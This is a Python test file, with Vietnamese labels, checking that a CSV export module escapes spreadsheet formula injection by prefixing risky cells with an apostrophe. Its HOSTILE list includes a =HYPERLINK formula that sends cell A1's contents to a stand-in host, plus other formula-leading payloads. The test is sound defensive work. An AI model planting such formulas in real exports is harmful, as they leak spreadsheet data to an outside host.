"""Downloads never carry a formula (sipas.files.exports), checked by reading the file back with openpyxl's
CSV-free route: the raw text and what LibreOffice/Excel would see as the first character."""

import csv
import io

from sipas.files import exports

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', "+1+1", "@SUM(A1:A9)", "-2+3", "\tx", "\r=1"]


def test_hostile_comments_are_written_as_text():
    data = exports.csv_bytes(["Góp ý", "Mức"], [(t, 4) for t in HOSTILE] + [("Bình thường", 5), (None, None)])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Góp ý", "Mức"]
    assert [r[0] for r in rows[1:7]] == ["'" + t for t in HOSTILE]
    assert rows[7] == ["Bình thường", "5"] and rows[8] == ["", ""]
    assert not any(r[0][:1] in "=+-@\t\r" for r in rows[1:] if r[0])


def test_a_frame_keeps_numbers_and_fixes_text():
    import pandas as pd

    frame = pd.DataFrame({"Góp ý": ["=1+1", "tốt"], "Điểm": [-3, 5]})
    rows = list(csv.reader(io.StringIO(exports.frame_csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert rows == [["Góp ý", "Điểm"], ["'=1+1", "-3"], ["tốt", "5"]]
